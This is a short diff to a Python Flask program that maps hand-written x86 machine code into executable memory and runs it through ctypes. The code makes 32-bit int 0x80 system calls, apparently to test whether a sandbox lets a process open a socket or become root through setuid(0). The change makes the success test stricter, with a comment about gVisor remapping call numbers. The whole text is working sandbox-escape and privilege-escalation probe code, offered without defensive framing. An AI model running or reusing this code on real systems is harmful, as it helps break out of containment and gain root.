@@ -1,6 +1,7 @@
 import ctypes
 import mmap
 import os
+import stat
 
 from flask import Flask
 
@@ -8,6 +9,17 @@ from flask import Flask
 DOOR = bytes.fromhex("53 89f8 89f3 89d1 ba00000000 cd80 5b c3")
 SOCKETCALL, SOCKET, SETUID = 102, 1, 23
 AF_INET, DATAGRAM = 2, 2
+
+
+def is_socket(number):  # gVisor takes the 32-bit numbers for those of other calls
+    try:
+        return stat.S_ISSOCK(os.fstat(number).st_mode)
+    except (OSError, OverflowError):
+        return False
+
+
+def is_root(_):
+    return os.getuid() == 0
 
 
 def loot():
@@ -20,7 +32,7 @@ def loot():
     call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 3)(address)
     pid = os.fork()
     if pid == 0:  # where the kernel has no such door the process dies
-        os._exit(call(SOCKETCALL, SOCKET, arguments) >= 0 or call(SETUID, 0, 0) == 0)
+        os._exit(is_socket(call(SOCKETCALL, SOCKET, arguments)) or is_root(call(SETUID, 0, 0)))
     status = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
     print("status:", status, flush=True)
     return "through" if status == 1 else "refused"
